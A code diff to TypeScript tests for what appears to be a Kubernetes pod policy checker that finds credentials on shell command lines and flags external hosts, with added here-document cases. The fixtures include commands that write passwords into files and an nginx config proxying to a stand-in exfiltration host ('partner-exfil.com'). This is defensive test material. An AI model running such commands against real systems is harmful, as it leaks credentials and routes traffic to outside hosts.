@@ -122,6 +122,7 @@ const positives: [string, (pw: string) => string][] = [
   ['.my.cnf here-document (<<-, quoted)', (pw) => `cat <<-'EOF' > ~/.my.cnf\n\t[client]\n\tuser=app\n\tpassword=${pw}\n\tEOF`],
   ['.pypirc', (pw) => `cat > ~/.pypirc <<EOF\n[pypi]\nusername = __token__\npassword = ${pw}\nEOF`],
   ['~/.docker/config.json auth', (pw) => `echo '{"auths":{"registry.internal":{"auth":"${Buffer.from(`ci:${pw}`).toString('base64')}"}}}' > ~/.docker/config.json`],
+  ['a script written by a here-document (its lines are read)', (pw) => `cat > /app/run.sh <<'EOF'\n#!/bin/sh\nexec mysql -uroot -p${pw} shop\nEOF\nsh /app/run.sh`],
   ['/kaniko/.docker/config.json here-document', (pw) => `cat > /kaniko/.docker/config.json <<EOF\n{"auths": {"registry.internal": {"auth": "${Buffer.from(`ci:${pw}`).toString('base64')}"}}}\nEOF`],
   // SQL and mongosh
   ['psql -c ALTER USER … PASSWORD', (pw) => `psql -h db -c "ALTER USER app WITH PASSWORD '${pw}'"`],
@@ -257,7 +258,7 @@ describe('credentials on command lines, read as each program reads them', () => 
 
   describe('never echoes a value in a credential position, and never shows it as a host', () => {
     const catalog = catalogOf([namespace('shop', 'enforce')]);
-    const judged = (script: string): string => JSON.stringify(judgeCreate(pod({ namespace: 'shop', containers: [{ name: 'app', image: 'x', command: ['sh', '-c', script] }] }), catalog).verdict);
+    const judged = (script: string): string => JSON.stringify(judgeCreate(pod({ namespace: 'shop', containers: [{ name: 'app', command: ['sh', '-c', script] }] }), catalog).verdict);
     const rows: [string, (v: string) => string][] = [
       ['keytool -storepass', (v) => `keytool -list -keystore k.jks -storepass ${v}`],
       ['openssl -passout pass:', (v) => `openssl pkcs12 -export -passout pass:${v}`],
@@ -267,6 +268,7 @@ describe('credentials on command lines, read as each program reads them', () => 
       ['lftp -u user,pw', (v) => `lftp -u svc,${v} ftp.internal`],
       ['curl -u user:pw', (v) => `curl -u svc:${v} https://api.internal/`],
       ['.netrc', (v) => `echo 'machine git.internal login ci password ${v}' > ~/.netrc`],
+      ['.netrc here-document', (v) => `cat <<EOF >> ~/.netrc\nmachine git.internal\nlogin ci\npassword ${v}\nEOF`],
       ['.pgpass here-document', (v) => `cat > ~/.pgpass <<EOF\ndb:5432:app:u:${v}\nEOF`],
       ['.git-credentials', (v) => `echo "https://ci:${v}@git.internal" > ~/.git-credentials`],
       ['SQL PASSWORD', (v) => `psql -c "ALTER USER x PASSWORD '${v}'"`],
@@ -280,6 +282,11 @@ describe('credentials on command lines, read as each program reads them', () => 
       ['a sensitive assignment', (v) => `export API_TOKEN=${v}`],
       ['a generic credential flag', (v) => `app --db-password=${v}`],
     ];
+    it('a here-document still shows the hosts its text reaches', () => {
+      const partner = ['partner', '-exfil', '.com'].join('');
+      const verdict = judged(`cat > /etc/nginx/conf.d/x.conf <<EOF\nserver { location / { proxy_pass https://${partner}; } }\nEOF\nexec nginx`);
+      expect(verdict).to.contain(`reaches undeclared external host \\"${partner}\\"`);
+    });
     for (const [what, script] of rows) {
       it(what, () => {
         for (const v of [HOSTY, `https://${HOSTY}`, `${HOSTY}:443`]) {
@@ -360,9 +367,9 @@ describe('the command-line view feeds a command', () => {
     expect(c!.pipedFrom?.program).to.equal('tr');
     expect(c!.pipedFrom?.pipedFrom).to.equal(undefined);
   });
-  it('a here-document body as stdin, its lines no command of their own', () => {
+  it('a here-document body as stdin, its lines read as embedded commands (a script written for later)', () => {
     const cmds = all("cat > /x <<'EOF'\nline $HOME\nEOF\necho after");
-    expect(cmds.map((c) => c.program)).to.deep.equal(['cat', 'echo']);
+    expect(cmds.map((c) => `${c.program}${c.embedded ? ' (embedded)' : ''}`)).to.deep.equal(['cat', 'line (embedded)', 'echo']);
     expect(cmds[0]!.stdin?.text).to.equal('line $HOME\n');
     expect(cmds[0]!.redirects.map((r) => [r.op, r.text])).to.deep.equal([['>', '/x']]);
   });
@@ -372,11 +379,12 @@ describe('the command-line view feeds a command', () => {
   });
   it('two here-documents on one line, and a pipe after one', () => {
     const cmds = all('cat <<A | psql\nselect 1;\nA\ncat <<B; cat <<C\nb\nB\nc\nC\necho end');
-    expect(cmds.map((c) => `${c.program}:${c.stdin?.text ?? ''}`)).to.deep.equal(['cat:select 1;\n', 'psql:', 'cat:b\n', 'cat:c\n', 'echo:']);
-    expect(cmds[1]!.pipedFrom?.stdin?.text).to.equal('select 1;\n');
+    const run = cmds.filter((c) => !c.embedded);
+    expect(run.map((c) => `${c.program}:${c.stdin?.text ?? ''}`)).to.deep.equal(['cat:select 1;\n', 'psql:', 'cat:b\n', 'cat:c\n', 'echo:']);
+    expect(run[1]!.pipedFrom?.stdin?.text).to.equal('select 1;\n');
   });
   it('a shell reading a here-document reads it as a script', () => {
-    expect(all('bash <<EOF\ncurl https://a.internal\nEOF').map((c) => c.program)).to.deep.equal(['bash', 'curl']);
+    expect(all('bash <<EOF\ncurl https://a.internal\nEOF').map((c) => `${c.program}${c.embedded ? ' (embedded)' : ''}`)).to.deep.equal(['bash', 'curl']);
   });
   it('no terminator: not a here-document (and `$((1<<2))` is none)', () => {
     expect(all('cat <<EOF\nnc h 1').map((c) => c.program)).to.include('nc');
